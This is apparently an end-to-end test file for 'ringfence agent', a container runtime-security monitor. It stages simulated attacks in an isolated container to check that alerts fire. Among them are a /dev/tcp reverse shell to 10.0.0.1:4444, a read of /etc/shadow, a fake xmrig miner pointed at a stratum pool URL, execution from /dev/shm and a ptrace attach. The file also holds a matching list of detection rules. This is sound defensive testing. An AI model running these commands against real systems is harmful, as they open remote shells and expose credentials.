import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needs } from '../helpers/components.js';
import { debianBase } from '../helpers/images.js';

/**
 * `ringfence agent` with real bpftrace and a real dockerd: attacks inside a container raise
 * the expected alerts with the container's id, name and image; archive and compression work
 * raises none; the agent survives bpftrace being killed (and reports the gap) and dockerd
 * being restarted (and names containers again).
 *
 * The containers run under a private dockerd (own socket, data and exec roots, own bridge) so
 * that restarting it disturbs no other test. Not `--bridge=none`: dockerd then deletes the
 * host's docker0, which the main daemon needs.
 */

const BIN = new URL('../../bin/ringfence', import.meta.url).pathname;
const skip = needs('root', 'docker', 'bpftrace', 'mmdebstrap');

const ATTACK_RULES = [
  'Shell started in a container by exec',
  'Password file read',
  'Write below a binary directory in a container',
  'Drift - executable not from the image',
  'Executable run from a temporary directory',
  'Cryptominer started',
  'Mining pool URL on a command line',
  'Reverse shell through /dev/tcp',
  'Process attached with ptrace',
];

interface Record {
  rule: string;
  output: string;
  source: string;
  proc?: { name: string; cmdline: string };
  container?: { id: string; name?: string; image?: string };
  capture?: { from: string; to: string; reason?: string };
}

class PrivateDockerd {
  readonly dir = mkdtempSync(join(tmpdir(), 'rf-agent-dockerd-'));
  readonly socket = join(this.dir, 'docker.sock');
  /** Short: containerd's socket lives below it and unix socket paths are limited. */
  private readonly execRoot = `/run/rfa-${process.pid}`;
  private readonly dataRoot = `/var/lib/rf-agent-test-${process.pid}`;
  private readonly bridge = `rfa${process.pid % 100_000}`;
  private child: ChildProcess | undefined;

  /** The containerd this dockerd runs for itself. */
  get containerdSocket(): string {
    return join(this.execRoot, 'containerd', 'containerd.sock');
  }

  /** `ctr` against that containerd. */
  ctr(args: string[]): string {
    return execFileSync('ctr', ['-a', this.containerdSocket, ...args], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
      timeout: 300_000,
    });
  }

  async start(): Promise<void> {
    execFileSync('sh', [
      '-c',
      `ip link show ${this.bridge} >/dev/null 2>&1 || ip link add ${this.bridge} type bridge`,
    ]);
    this.child = spawn(
      'dockerd',
      [
        `--host=unix://${this.socket}`,
        `--data-root=${this.dataRoot}`,
        `--exec-root=${this.execRoot}`,
        `--pidfile=${join(this.dir, 'docker.pid')}`,
        `--bridge=${this.bridge}`,
        '--iptables=false',
        '--ip6tables=false',
      ],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    );
    let log = '';
    this.child.stderr!.on('data', (d) => {
      log = (log + d).slice(-4000);
    });
    for (let i = 0; i < 120; i++) {
      if (this.docker(['version'], true) !== undefined) return;
      await sleep(500);
    }
    throw new Error(`private dockerd did not start: ${log}`);
  }

  async stop(): Promise<void> {
    const child = this.child;
    if (!child || child.exitCode !== null) return;
    const exited = new Promise((r) => child.once('exit', r));
    child.kill('SIGTERM');
    await Promise.race([exited, sleep(30_000)]);
    if (child.exitCode === null) child.kill('SIGKILL');
  }

  /** `docker` against this daemon; with `quiet`, undefined instead of throwing. */
  docker(args: string[], quiet = false): string | undefined {
    try {
      return execFileSync('docker', ['-H', `unix://${this.socket}`, ...args], {
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'pipe'],
        timeout: 120_000,
      });
    } catch (err) {
      if (quiet) return undefined;
      throw err;
    }
  }

  /** Copies an image from the main daemon. */
  load(tag: string): void {
    execFileSync('sh', ['-c', `docker save ${tag} | docker -H unix://${this.socket} load -q`], {
      stdio: 'ignore',
      timeout: 300_000,
    });
  }

  async cleanup(): Promise<void> {
    this.docker(['rm', '-f', ...this.containers()], true);
    await this.stop();
    execFileSync('sh', [
      '-c',
      `umount -R ${this.execRoot} 2>/dev/null; umount -R ${this.dataRoot} 2>/dev/null; true`,
    ]);
    execFileSync('sh', ['-c', `ip link del ${this.bridge} 2>/dev/null; true`]);
    rmSync(this.execRoot, { recursive: true, force: true });
    rmSync(this.dataRoot, { recursive: true, force: true });
    rmSync(this.dir, { recursive: true, force: true });
  }

  private containers(): string[] {
    return (this.docker(['ps', '-aq'], true) ?? '').split('\n').filter(Boolean);
  }
}

class Agent {
  readonly output: string;
  stderr = '';
  private child: ChildProcess | undefined;

  constructor(
    dir: string,
    private readonly dockerSocket: string,
    private readonly containerdSocket: string,
    private readonly extra: string[] = [],
    name = 'alerts',
  ) {
    this.output = join(dir, `${name}.jsonl`);
  }

  async start(): Promise<void> {
    this.child = spawn(
      process.execPath,
      [
        BIN,
        'agent',
        '--output',
        this.output,
        '--docker-socket',
        this.dockerSocket,
        '--containerd-socket',
        this.containerdSocket,
        '--dedup-window',
        '0',
        ...this.extra,
      ],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    );
    this.child.stderr!.on('data', (d) => {
      this.stderr += d;
    });
    await until(() => this.stderr.includes('ready') || this.child!.exitCode !== null, 90_000, 'agent ready');
    if (!this.stderr.includes('ready')) throw new Error(`agent did not start: ${this.stderr}`);
  }

  get pid(): number {
    return this.child!.pid!;
  }

  records(): Record[] {
    if (!existsSync(this.output)) return [];
    return readFileSync(this.output, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record);
  }

  async stop(): Promise<number | null> {
    const child = this.child;
    if (!child || child.exitCode !== null) return child?.exitCode ?? null;
    const exited = new Promise<number | null>((r) => child.once('exit', (code) => r(code)));
    child.kill('SIGTERM');
    return Promise.race([exited, sleep(20_000).then(() => null)]);
  }
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function until(test: () => boolean, timeoutMs: number, what: string): Promise<void> {
  const end = Date.now() + timeoutMs;
  while (!test()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await sleep(200);
  }
}

/** PTRACE_ATTACH through perl's syscall(), the one tool a minimal Debian has for it. */
const PTRACE_SYSCALL = process.arch === 'arm64' ? 117 : 101;

describe.skipIf(skip)('ringfence agent on a real kernel and dockerd', () => {
  const dir = mkdtempSync(join(tmpdir(), 'rf-agent-e2e-'));
  let daemon: PrivateDockerd;
  let agent: Agent;
  let image: string;
  let target: { id: string; name: string };
  let benign: { id: string; name: string };

  const forContainer = (id: string) => agent.records().filter((r) => r.container?.id === id.slice(0, 12));
  const fired = (id: string, rule: string) => forContainer(id).filter((r) => r.rule === rule);
  const exec = (name: string, script: string) => daemon.docker(['exec', name, 'bash', '-c', script], true);
  /** A check that starts no shell (a shell started by exec is itself an alert). */
  const exists = (name: string, path: string) =>
    daemon.docker(['exec', name, 'test', '-f', path], true) !== undefined;

  beforeAll(async () => {
    image = debianBase(['xz-utils']);
    daemon = new PrivateDockerd();
    await daemon.start();
    daemon.load(image);
    agent = new Agent(dir, daemon.socket, daemon.containerdSocket);
    await agent.start();
    const run = (name: string, ...cmd: string[]) => ({
      id: daemon.docker(['run', '-d', '--network', 'none', '--name', name, image, ...cmd])!.trim(),
      name,
    });
    target = run(`rfa-target-${process.pid}`, 'sleep', '600');
    benign = run(
      `rfa-benign-${process.pid}`,
      'bash',
      '-c',
      'sleep 2; tar -C / -cf /tmp/usr.tar usr/share/doc usr/share/perl5 && gzip -k /tmp/usr.tar && xz -k -T1 /tmp/usr.tar' +
        ' && mkdir -p /tmp/out && tar -C /tmp/out -xzf /tmp/usr.tar.gz && xz -dc /tmp/usr.tar.xz | tar -C /tmp/out -xf - --overwrite' +
        ' && sha256sum /tmp/usr.tar.gz > /tmp/sum && echo done > /tmp/done; sleep 600',
    );
  }, 900_000);

  afterAll(async () => {
    await agent?.stop();
    await daemon?.cleanup();
    rmSync(dir, { recursive: true, force: true });
  }, 120_000);

  it('raises the expected alert for each attack, with the container id, name and image', async () => {
    exec(target.name, 'cat /etc/shadow > /dev/null');
    exec(target.name, 'cp /bin/ls /usr/bin/rf-ls && /usr/bin/rf-ls / > /dev/null');
    exec(target.name, 'printf "echo from-shm\\n" > /dev/shm/run.sh && sh /dev/shm/run.sh');
    exec(
      target.name,
      'printf "#!/bin/sh\\nsleep 1\\n" > /usr/local/bin/xmrig && chmod +x /usr/local/bin/xmrig && xmrig -o stratum+tcp://pool.example.com:3333',
    );
    exec(target.name, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1');
    exec(target.name, `sleep 30 & perl -e 'syscall(${PTRACE_SYSCALL}, 16, $ARGV[0] + 0, 0, 0)' $!`);

    const expected: [string, (r: Record) => boolean][] = [
      ['Shell started in a container by exec', (r) => r.proc?.name === 'bash'],
      ['Password file read', (r) => r.output.includes('/etc/shadow')],
      ['Write below a binary directory in a container', (r) => r.output.includes('/usr/bin/rf-ls')],
      ['Drift - executable not from the image', (r) => r.output.includes('/usr/bin/rf-ls')],
      [
        'Executable run from a temporary directory',
        (r) => r.proc?.cmdline.includes('/dev/shm/run.sh') ?? false,
      ],
      ['Cryptominer started', (r) => r.proc?.name === 'xmrig'],
      ['Mining pool URL on a command line', (r) => r.output.includes('stratum+tcp://pool.example.com')],
      ['Reverse shell through /dev/tcp', (r) => r.output.includes('/dev/tcp/10.0.0.1/4444')],
      ['Process attached with ptrace', (r) => r.output.includes('PTRACE_ATTACH')],
    ];
    const missing = () =>
      expected.filter(([rule, ok]) => !fired(target.id, rule).some(ok)).map(([rule]) => rule);
    await until(() => missing().length === 0, 20_000, `alerts: ${missing().join(', ')}`).catch(() => {});
    expect(missing()).toEqual([]);
    for (const [rule] of expected) {
      const alert = fired(target.id, rule)[0]!;
      expect(alert.container).toMatchObject({ id: target.id.slice(0, 12), name: target.name, image });
    }
  }, 120_000);

  it('raises none of those for a container doing archive and compression work', async () => {
    await until(() => exists(benign.name, '/tmp/done'), 120_000, 'the benign workload');
    await sleep(1000);
    const seen = forContainer(benign.id);
    // The container did run (its first process is reported as running as root: posture, not attack).
    expect(seen.some((r) => r.rule === 'Container running as root')).toBe(true);
    expect(seen.filter((r) => ATTACK_RULES.includes(r.rule)).map((r) => r.output)).toEqual([]);
  }, 180_000);

  it('names containers that containerd runs for the kubelet, with their pod', async () => {
    const ns = 'k8s.io';
    execFileSync(
      'sh',
      ['-c', `docker save ${image} | ctr -a ${daemon.containerdSocket} -n ${ns} images import -`],
      {
        stdio: 'ignore',
        timeout: 300_000,
      },
    );
    const ref = daemon
      .ctr(['-n', ns, 'images', 'ls', '-q'])
      .split('\n')
      .find((r) => r.endsWith(image))!;
    const id = execFileSync('sh', ['-c', 'head -c 32 /dev/urandom | sha256sum | cut -c1-64'], {
      encoding: 'utf8',
    }).trim();
    const podUid = execFileSync('cat', ['/proc/sys/kernel/random/uuid'], { encoding: 'utf8' }).trim();
    daemon.ctr([
      '-n',
      ns,
      'run',
      '-d',
      '--cgroup',
      `/kubepods/besteffort/pod${podUid}/${id}`,
      '--label',
      'io.kubernetes.pod.name=shop-0',
      '--label',
      'io.kubernetes.pod.namespace=shop',
      '--label',
      `io.kubernetes.pod.uid=${podUid}`,
      '--label',
      'io.kubernetes.container.name=web',
      ref,
      id,
      'sleep',
      '600',
    ]);
    try {
      daemon.ctr(['-n', ns, 'tasks', 'exec', '--exec-id', 'read-shadow', id, 'cat', '/etc/shadow']);
      await until(
        () => fired(id, 'Password file read').length > 0,
        20_000,
        'an alert from the containerd container',
      );
      const alert = fired(id, 'Password file read')[0] as Record & { k8s?: { ns?: string; pod?: string } };
      expect(alert.container).toMatchObject({ id: id.slice(0, 12), name: 'web', image: ref });
      expect(alert.k8s).toEqual({ ns: 'shop', pod: 'shop-0' });
    } finally {
      execFileSync(
        'sh',
        [
          '-c',
          `ctr -a ${daemon.containerdSocket} -n ${ns} tasks kill -s SIGKILL ${id}; sleep 1; ctr -a ${daemon.containerdSocket} -n ${ns} tasks rm -f ${id}; ctr -a ${daemon.containerdSocket} -n ${ns} containers rm ${id}; true`,
        ],
        { stdio: 'ignore' },
      );
    }
  }, 180_000);

  const bpftraceChildren = () =>
    execFileSync('sh', ['-c', `pgrep -P ${agent.pid} bpftrace || true`], { encoding: 'utf8' })
      .split('\n')
      .filter(Boolean)
      .map(Number);
  const gaps = () => agent.records().filter((r) => r.rule === 'Ringfence capture gap');
  const shadowReadAgain = async () => {
    const before = fired(target.id, 'Password file read').length;
    exec(target.name, 'cat /etc/shadow > /dev/null');
    await until(
      () => fired(target.id, 'Password file read').length > before,
      15_000,
      'an alert after the restart',
    );
  };

  it('is back within 5 s when bpftrace is killed, and reports the gap', async () => {
    // The running bpftrace is the oldest child; the younger one is its attached standby.
    await until(() => bpftraceChildren().length === 2, 120_000, 'the standby bpftrace');
    const active = Number(
      execFileSync('pgrep', ['-o', '-P', String(agent.pid), 'bpftrace'], { encoding: 'utf8' }),
    );
    const killedAt = Date.now();
    process.kill(active, 'SIGKILL');
    await until(() => gaps().length === 1, 10_000, 'the gap record');
    const gap = gaps()[0]!;
    expect(gap.source).toBe('ringfence');
    expect(gap.capture!.reason).toBe('signal SIGKILL');
    expect(Date.parse(gap.capture!.to) - killedAt).toBeLessThan(5000);
    expect(agent.stderr).toMatch(/kernel capture is back/);
    await shadowReadAgain();
  }, 180_000);

  it('starts bpftrace again when it and its standby are both killed', async () => {
    await until(() => bpftraceChildren().length === 2, 120_000, 'a new standby');
    for (const pid of bpftraceChildren()) process.kill(pid, 'SIGKILL');
    await until(() => gaps().length === 2, 60_000, 'the second gap record');
    expect(gaps()[1]!.capture!.reason).toBe('signal SIGKILL');
    await shadowReadAgain();
  }, 180_000);

  it('names containers again after dockerd is restarted', async () => {
    await daemon.stop();
    await until(() => agent.stderr.includes('lost the daemon'), 15_000, 'the agent to notice');
    await daemon.start();
    const name = `rfa-after-${process.pid}`;
    const id = daemon
      .docker(['run', '-d', '--network', 'none', '--name', name, image, 'sleep', '600'])!
      .trim();
    daemon.docker(['exec', name, 'cat', '/etc/shadow']);
    await until(
      () => fired(id, 'Password file read').length > 0,
      20_000,
      'an alert from the new container',
    ).catch((err: Error) => {
      throw new Error(
        `${err.message}; agent said: ${agent.stderr.slice(-1500)}; reads of /etc/shadow: ${JSON.stringify(
          agent
            .records()
            .filter((r) => r.rule === 'Password file read')
            .slice(-3)
            .map((r) => r.container),
        )}`,
      );
    });
    expect(fired(id, 'Password file read')[0]!.container).toMatchObject({ id: id.slice(0, 12), name, image });
  }, 120_000);

  it('with --host, watches host processes too (container.id host)', async () => {
    const hostAgent = new Agent(dir, daemon.socket, daemon.containerdSocket, ['--host'], 'host-alerts');
    try {
      await hostAgent.start();
      execFileSync('cat', ['/etc/shadow'], { stdio: 'ignore' });
      const hostRead = () =>
        hostAgent.records().find((r) => r.rule === 'Password file read' && r.container?.id === 'host');
      await until(() => hostRead() !== undefined, 20_000, 'the host alert');
      expect(hostRead()!.proc!.name).toBe('cat');
      // The agent without --host did not see it.
      expect(agent.records().some((r) => r.rule === 'Password file read' && r.container?.id === 'host')).toBe(
        false,
      );
    } finally {
      await hostAgent.stop();
    }
  }, 180_000);

  it('stops cleanly on SIGTERM', async () => {
    expect(await agent.stop()).toBe(0);
    expect(execFileSync('sh', ['-c', `pgrep -P ${agent.pid} || true`], { encoding: 'utf8' }).trim()).toBe('');
  }, 30_000);
});
